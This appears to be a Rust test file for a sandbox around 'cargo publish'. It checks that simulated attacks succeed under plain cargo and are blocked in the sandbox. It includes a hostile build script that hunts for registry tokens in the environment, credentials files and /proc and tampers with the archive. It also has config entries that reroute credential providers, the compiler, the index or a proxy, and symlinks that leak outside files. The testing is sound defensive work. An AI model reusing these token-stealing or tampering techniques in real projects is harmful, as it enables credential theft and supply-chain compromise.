//! Attacks on publishing, each made under plain cargo first.

use std::fs;
use std::net::TcpListener;
use std::os::unix::fs::{PermissionsExt as _, symlink};
use std::path::{Path, PathBuf};
use std::sync::Arc;
use std::sync::atomic::{AtomicUsize, Ordering};

use super::server::Server;
use super::support::run::run;
use super::support::world::World;
use super::{engines, package, sandbox, scene, users};

/// What a verify build tries: to find the token, to change the archive, to change what is sent beside it.
const SCRIPT: &str = r##"
use std::io::Write as _;

fn main() {
    let token = TOKEN.as_bytes();
    let has = |bytes: &[u8]| bytes.windows(token.len()).any(|window| window == token);
    let mut found = Vec::new();
    if std::env::vars_os().any(|(_, value)| has(value.as_encoded_bytes())) {
        found.push("environment");
    }
    if std::fs::read(CREDENTIALS).is_ok_and(|bytes| has(&bytes)) {
        found.push("credentials");
    }
    let processes = std::fs::read_dir("/proc").into_iter().flatten().flatten();
    if processes.filter_map(|entry| std::fs::read(entry.path().join("environ")).ok()).any(|bytes| has(&bytes)) {
        found.push("processes");
    }
    if std::process::Command::new(PROVIDER).output().is_ok_and(|output| has(&output.stdout)) {
        found.push("provider");
    }
    let name = std::env::var("CARGO_PKG_NAME").unwrap();
    let append = |path: &str| {
        let file = std::fs::OpenOptions::new().append(true).open(path);
        file.and_then(|mut file| file.write_all(b"planted")).is_ok()
    };
    for (what, path) in [
        ("archive", format!("../tmp-crate/{name}-0.1.0.crate")),
        ("readme", format!("{WORK}/{name}/README.md")),
        ("source", format!("{WORK}/{name}/notes.txt")),
    ] {
        if append(&path) {
            found.push(what);
        }
    }
    println!("cargo::warning=found {found:?}");
}
"##;

#[test]
fn the_verify_build_gets_no_token_and_changes_nothing_that_is_sent() {
    for user in users() {
        let Some((world, server)) = scene("publish-hostile", &user) else { return };
        let credentials = world.home.join(".cargo/credentials.toml");
        world.write(&credentials, &format!("[registries.mine]\ntoken = \"{}\"\n", server.token));
        let provider = script(&world, "provider", &format!("echo {}", server.token));
        let text = |path: &Path| format!("{path:?}");
        let build = SCRIPT
            .replace("TOKEN", &format!("{:?}", server.token))
            .replace("CREDENTIALS", &text(&credentials))
            .replace("PROVIDER", &text(&provider))
            .replace("{WORK}", &world.work().display().to_string());
        let files = [("build.rs", build.as_str()), ("README.md", "# hostile\n"), ("notes.txt", "notes\n")];
        let make = |name: &str| package(&world, name, "readme = \"README.md\"\n", &files);

        let project = make("hostile-plain");
        let output = run(world
            .plain(&project)
            .args(["publish", "--registry", "mine"])
            .env("CARGO_REGISTRIES_MINE_TOKEN", &server.token));
        let said = output.success("cargo publish").stderr;
        let all =
            r#"found ["environment", "credentials", "processes", "provider", "archive", "readme", "source"]"#;
        assert!(said.contains(all), "control: {said}");
        let sent = server.archive("hostile-plain", "0.1.0").expect("published");
        assert!(sent.ends_with(b"planted"), "control: another archive was sent than the one that was packed");
        assert!(fs::read_to_string(project.join("README.md")).unwrap().ends_with("planted"), "control");

        for engine in engines() {
            let name = format!("hostile-{engine}");
            let project = make(&name);
            let plain = world.home.join("honest");
            run(world.plain(&project).args(["package", "--no-verify"]).env("CARGO_TARGET_DIR", &plain))
                .success("cargo package");
            let honest = fs::read(plain.join(format!("package/{name}-0.1.0.crate"))).expect("archive");
            let output =
                run(&mut sandbox(&world, engine, &project, &server.token, "publish --registry mine"));
            let said = output.success("publish").stderr;
            assert!(said.contains("found []"), "{said}");
            assert!(server.archive(&name, "0.1.0").expect("published") == honest, "{said}");
            assert_eq!(fs::read_to_string(project.join("README.md")).unwrap(), "# hostile\n");
            world.stop(engine, &project);
        }
    }
}

/// Between the verify build and the upload, whoever gives the token changes the sources.
#[test]
fn what_was_not_verified_is_not_sent() {
    let Some(user) = users().into_iter().next() else { return };
    let Some((world, server)) = scene("publish-changed", &user) else { return };

    // Under plain cargo, what is verified and what is sent are two things.
    let project = package(&world, "changed-plain", "", &[("notes.txt", "verified\n")]);
    run(world.plain(&project).arg("package")).success("cargo package");
    world.write(&project.join("notes.txt"), "changed\n");
    run(world
        .plain(&project)
        .args(["publish", "--no-verify", "--registry", "mine"])
        .env("CARGO_REGISTRIES_MINE_TOKEN", &server.token))
    .success("cargo publish");
    let verified = fs::read(project.join("target/package/changed-plain-0.1.0.crate")).expect("archive");
    assert!(server.archive("changed-plain", "0.1.0").expect("published") != verified, "control");

    let project = world.work().join("changed");
    let give = format!("echo changed >> {}/notes.txt\necho {}", project.display(), server.token);
    let give = script(&world, "give-token", &give);
    let config = fs::read_to_string(world.home.join(".cargo/config.toml")).unwrap();
    let provider = format!("credential-provider = [\"cargo:token-from-stdout\", {give:?}]\n");
    world.write(&world.home.join(".cargo/config.toml"), &format!("{config}{provider}"));
    for engine in engines() {
        let project = package(&world, "changed", "", &[("notes.txt", "verified\n")]);
        let output = run(world.sandbox(engine, &project).args(["publish", "--registry", "mine"]));
        assert_ne!(output.code(), 0, "{}", output.stderr);
        assert!(output.stderr.contains("is not the one that was verified"), "{}", output.stderr);
        assert_eq!(server.uploads(), 1, "the control's own");
        world.stop(engine, &project);
    }
}

/// What a repository's configuration can say to get the token, or the upload, or a program of its own started.
#[test]
fn a_repository_decides_nothing_of_where_the_token_goes() {
    let Some(user) = users().into_iter().next() else { return };
    let engine = engines().pop().expect("an engine");
    let Some((world, server)) = scene("publish-config", &user) else { return };
    let evil = Server::start(&world.home.join("evil"), false).expect("another registry");
    let proxy = Proxy::start();
    let marker = world.home.join("marker");
    let program = script(&world, "evil-program", &format!("echo \"$@\" >> {}; exit 1", marker.display()));
    let ran = || {
        let ran = marker.exists();
        let _ = fs::remove_file(&marker);
        ran
    };
    type Gained<'a> = &'a dyn Fn() -> bool;
    let attacks: [(&str, String, Gained<'_>); 5] = [
        ("provider", format!("[registries.mine]\ncredential-provider = [{program:?}]\n"), &ran),
        (
            "global-provider",
            format!("[registry]\nglobal-credential-providers = [{:?}]\n", program.display().to_string()),
            &ran,
        ),
        ("compiler", format!("[build]\nrustc = {program:?}\n"), &ran),
        ("index", format!("[registries.mine]\nindex = \"{}\"\n", evil.index()), &|| evil.uploads() > 0),
        ("proxy", format!("[http]\nproxy = \"http://127.0.0.1:{}\"\n", proxy.port), &|| {
            proxy.connections() > 0
        }),
    ];
    for (name, config, gained) in attacks {
        let project = package(&world, &format!("config-{name}"), "", &[(".cargo/config.toml", &config)]);
        let line = ["publish", "--no-verify", "--registry", "mine"];
        let mut plain = world.plain(&project);
        plain.args(line).env("CARGO_REGISTRIES_MINE_TOKEN", &server.token);
        plain.env("CARGO_HTTP_TIMEOUT", "2").env("CARGO_NET_RETRY", "0");
        let output = run(&mut plain);
        assert!(gained(), "control: {name}: {}", output.stderr);
        let (uploads, elsewhere, proxied) = (server.uploads(), evil.requests().len(), proxy.connections());
        if name == "compiler" {
            // Nobody is asked: no compiler of the configuration's is ever started.
            let manifest = fs::read_to_string(project.join("Cargo.toml")).unwrap();
            world.write(&project.join("Cargo.toml"), &manifest.replace("0.1.0", "0.1.1"));
            let output = run(&mut sandbox(&world, engine, &project, &server.token, &line.join(" ")));
            output.success("publish");
            assert!(!ran(), "{name}");
            continue;
        }
        let output = run(&mut sandbox(&world, engine, &project, &server.token, &line.join(" ")));
        assert_eq!(output.code(), 101, "{name}: {}", output.stderr);
        assert!(output.stderr.contains("self trust"), "{name}: {}", output.stderr);
        assert!(!ran(), "{name}");
        let now = (server.uploads(), evil.requests().len(), proxy.connections());
        assert_eq!(now, (uploads, elsewhere, proxied), "{name}");
    }
}

/// cargo packs what links and the manifest lead to.
#[test]
fn files_of_elsewhere_are_not_sent() {
    let Some(user) = users().into_iter().next() else { return };
    let engine = engines().pop().expect("an engine");
    let Some((world, server)) = scene("publish-links", &user) else { return };
    let secret = world.home.join("private/secret");
    world.write(&secret, "precious secret");
    type Plant = fn(&Path, &Path);
    let attacks: [(&str, &str, Plant); 5] = [
        ("file-link", "", |project, secret| symlink(secret, project.join("data")).unwrap()),
        ("directory-link", "", |project, secret| {
            symlink(secret.parent().unwrap(), project.join("data")).unwrap()
        }),
        ("source-link", "", |project, secret| symlink(secret, project.join("src/data.txt")).unwrap()),
        ("readme", "readme = \"SECRET\"\n", |_, _| {}),
        ("license-file", "license-file = \"SECRET\"\n", |_, _| {}),
    ];
    for (name, manifest, plant) in attacks {
        let manifest = manifest.replace("SECRET", &secret.display().to_string());
        let project = package(&world, name, &manifest, &[]);
        plant(&project, &secret);
        let plain = world.home.join("plain");
        run(world.plain(&project).args(["package", "--no-verify"]).env("CARGO_TARGET_DIR", &plain))
            .success("cargo package");
        let unpacked =
            run(world.command("tar").args(["-xzOf"]).arg(plain.join(format!("package/{name}-0.1.0.crate"))));
        assert!(unpacked.success("tar").stdout.contains("precious secret"), "control: {name}");

        for line in ["publish --registry mine --no-verify", "publish --registry mine --dry-run"] {
            let output = run(&mut sandbox(&world, engine, &project, &server.token, line));
            assert_eq!(output.code(), 101, "{name}: {}", output.stderr);
            // cargo may not even read what is outside of the project.
            assert!(
                output.stderr.contains("is outside of the package is not sent"),
                "{name}: {}",
                output.stderr
            );
        }
    }

    // What is in the project and not in the package cargo can read.
    let root = world.work().join("whole");
    world.write(&root.join("Cargo.toml"), "[workspace]\nmembers = [\"part\"]\n");
    world.write(&root.join("settings"), "precious secret");
    world.write(&root.join("README.md"), "# whole\n");
    let part = package(&world, "whole/part", "readme = \"../README.md\"\n", &[]);
    let line = "publish --registry mine --no-verify --dry-run";
    run(&mut sandbox(&world, engine, &part, &server.token, line)).success("a README is shared");
    symlink("../settings", part.join("data")).unwrap();
    let output = run(&mut sandbox(&world, engine, &part, &server.token, line));
    assert_eq!(output.code(), 101, "{}", output.stderr);
    let said = format!("part: `data` is `{}`", root.join("settings").display());
    assert!(output.stderr.contains(&said), "{}", output.stderr);
    assert_eq!((server.uploads(), server.published().len()), (0, 0));
}

fn script(world: &World, name: &str, text: &str) -> PathBuf {
    let path = world.home.join(name);
    world.write(&path, &format!("#!/bin/sh\n{text}\n"));
    fs::set_permissions(&path, fs::Permissions::from_mode(0o755)).unwrap();
    path
}

/// Counts who comes, and says nothing.
struct Proxy {
    port: u16,
    connections: Arc<AtomicUsize>,
}

impl Proxy {
    fn start() -> Self {
        let listener = TcpListener::bind("127.0.0.1:0").unwrap();
        let port = listener.local_addr().unwrap().port();
        let connections = Arc::new(AtomicUsize::new(0));
        let count = Arc::clone(&connections);
        std::thread::spawn(move || {
            for _ in listener.incoming().map_while(Result::ok) {
                count.fetch_add(1, Ordering::SeqCst);
            }
        });
        Self { port, connections }
    }

    fn connections(&self) -> usize {
        self.connections.load(Ordering::SeqCst)
    }
}
